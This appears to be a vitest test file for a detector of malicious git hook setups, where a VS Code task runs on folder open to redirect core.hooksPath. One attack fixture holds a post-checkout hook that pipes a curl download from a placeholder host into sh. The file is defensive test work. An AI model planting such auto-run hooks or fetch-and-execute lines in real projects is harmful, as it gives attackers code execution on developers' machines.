import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-hooks-path.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

const task = (command: string, more: object = {}) =>
  JSON.stringify({ tasks: [{ label: 'env', command, runOptions: { runOn: 'folderOpen' }, ...more }] })

test.each<[string, Files, string[]]>([
  [
    'on opening, hooks that fetch',
    {
      '.vscode/tasks.json': task('git config core.hooksPath .githooks; git checkout main'),
      '.githooks/post-checkout': '#!/bin/sh\ncurl -s https://a.invalid | sh\n',
    },
    ['decisive 13 .githooks/post-checkout:2:1'],
  ],
  [
    'on opening',
    { '.vscode/tasks.json': task('git config core.hooksPath .githooks') },
    ['strong 6 .vscode/tasks.json:1:37'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'a team of its own',
    {
      'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}',
      '.githooks/pre-commit': '#!/bin/sh\nnpm test\n',
    },
    ['context 0.5 package.json:1:24'],
  ],
  ['husky', { 'package.json': '{"scripts":{"prepare":"husky"}}', '.husky/pre-commit': 'npm test\n' }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
